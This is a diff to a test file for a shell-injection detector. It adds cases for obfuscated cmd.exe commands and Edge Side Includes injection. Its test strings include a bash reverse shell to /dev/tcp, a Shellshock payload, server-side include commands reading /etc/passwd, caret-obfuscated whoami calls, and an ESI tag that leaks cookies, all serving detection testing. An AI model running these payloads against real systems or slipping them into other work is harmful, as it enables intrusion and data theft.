@@ -104,12 +104,26 @@ describe("shell analyzer", () => {
     expect(s("see the reg; reg form")).toBeLessThan(0.5);
   });
 
+  test("cmd.exe spellings: carets before every letter, quotes in a name (the last one unclosed), %ComSpec% and %SystemRoot% paths", () => {
+    for (const v of ["& ^w^h^o^a^m^i", '& w"h"o"a"m"i', "& %COMSPEC% /c whoami", "& %SystemRoot%\\system32\\cmd.exe /c whoami"]) expect([v, s(v)]).toEqual([v, 0.9]);
+    // A regular expression's anchor, and carets that spell no command.
+    for (const v of ["^abc$", "^[a-z]+$", "x & ^note^s"]) expect(s(v)).toBe(0);
+  });
+
   test("redirection to /dev/tcp, Shellshock and server-side includes", () => {
     expect(strongest(shellAnalyzer, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")!.rule).toBe("shell.dev-tcp");
     expect(strongest(shellAnalyzer, "() { :; }; /bin/bash -c id")!.rule).toBe("shell.shellshock");
     const ssi = strongest(shellAnalyzer, '<!--#exec cmd="ls" -->')!;
     expect([ssi.rule, ssi.strength]).toEqual(["shell.ssi", 0.95]);
     expect(s('<!--#include virtual="/etc/passwd" -->')).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test("Edge Side Includes, which a cache in front of the site runs", () => {
+    const esi = strongest(shellAnalyzer, '<esi:include src="http://198.51.100.7/"/>')!;
+    expect([esi.rule, esi.strength]).toEqual(["shell.esi", 0.9]);
+    expect(s("x<esi:vars>$(HTTP_COOKIE)</esi:vars>")).toBeGreaterThanOrEqual(0.85);
+    expect(s('<!--esi <esi:assign name="a" value="1"/> -->')).toBeGreaterThanOrEqual(0.85);
+    expect(s("ESI tags such as esi:include are what Varnish reads")).toBe(0);
   });
 
   test("a value that is the whole command counts only with shell syntax around it", () => {
